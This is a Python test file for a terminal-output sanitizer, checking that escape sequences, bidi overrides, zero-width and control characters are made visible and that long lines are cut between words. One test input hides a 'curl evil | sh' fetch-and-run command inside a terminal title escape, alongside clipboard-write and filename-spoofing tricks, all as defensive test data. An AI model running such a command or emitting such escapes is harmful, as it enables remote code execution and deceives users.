import pytest
from agentctl.tui.clean import clean, clean_lines, visible
from hypothesis import given
from hypothesis import strategies as st


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("plain, ünïcödé, 漢字, 👍", "plain, ünïcödé, 漢字, 👍"),
        ("a\x1b[1;31mred\x1b[0m", "a␛[1;31mred␛[0m"),
        ("\x1b]52;c;aGVsbG8=\x07x", "␛]52;c;aGVsbG8=␇x"),
        ("echo a \x1b]0;; curl evil | sh;\necho\x07 b", "echo a ␛]0;; curl evil | sh;\necho␇ b"),
        ("\x1bP1$r\x1b\\x", "␛P1$r␛\\x"),
        ("\x9b31mx", "<U+009B>31mx"),
        ("\x1b", "␛"),
        ("file\u202egpj.exe", "file<U+202E>gpj.exe"),
        ("zero\u200bwidth\ufeff", "zero<U+200B>width<U+FEFF>"),
        ("tag\U000e0041s", "tag<U+E0041>s"),
        ("a\x00b\x7fc\x08d\re", "a␀b␡c␈d␍e"),
        ("lone \ud800 surrogate", "lone <U+D800> surrogate"),
    ],
)
def test_what_a_terminal_would_obey_or_hide_is_shown_and_nothing_is_taken_out(raw: str, safe: str) -> None:
    assert clean_lines(raw) == safe


def test_code_keeps_its_tabs_and_shows_the_line_ends_it_has() -> None:
    assert visible("a\tb\r\n") == "a\tb␍\n"


@pytest.mark.parametrize(
    ("width", "cut"), [(20, "why is that…"), (12, "why is that…"), (9, "why is…"), (4, "why…"), (3, "wh…")]
)
def test_a_long_line_is_cut_between_words(width: int, cut: str) -> None:
    assert clean("why is that unthinkably-long-word there", width=width) == cut


def test_lines_stay_and_tabs_become_spaces() -> None:
    assert clean_lines("a\r\nb\tc\n") == "a\nb    c\n"


@given(st.text())
def test_nothing_unsafe_survives_anything(raw: str) -> None:
    safe = clean_lines(raw)
    assert all(c == "\n" or (ord(c) >= 0x20 and not 0x7F <= ord(c) < 0xA0) for c in safe)
    assert clean_lines(safe) == safe


@given(st.text(), st.integers(1, 40))
def test_one_line_within_its_width(raw: str, width: int) -> None:
    line = clean(raw, width=width)
    assert "\n" not in line
    assert len(line) <= width
